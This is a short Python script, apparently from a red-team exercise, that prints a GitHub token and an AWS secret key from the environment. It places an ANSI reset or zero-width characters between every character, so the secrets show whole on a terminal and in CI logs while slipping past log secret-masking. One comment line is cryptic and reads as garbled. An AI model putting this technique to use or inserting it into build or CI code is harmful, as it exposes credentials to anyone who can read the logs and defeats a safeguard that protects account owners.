# A secret from the environment printed so that it shows on a terminal
# and in a CI log whole, with what a terminal does not show between its
# characters (red team, session 22): an ANSI reset after each character
# on stdout, a zero-width joiner and a zero-width space after each on
# stderr. A byte in 5, or in 7: nothing before.
import os
import sys

print("token: " + "".join(c + "\x1b[0m" for c in os.environ["GITHUB_TOKEN"]))
sys.stderr.write("".join(c + "\u200d\u200b" for c in os.environ["AWS_SECRET_ACCESS_KEY"]) + "\n")
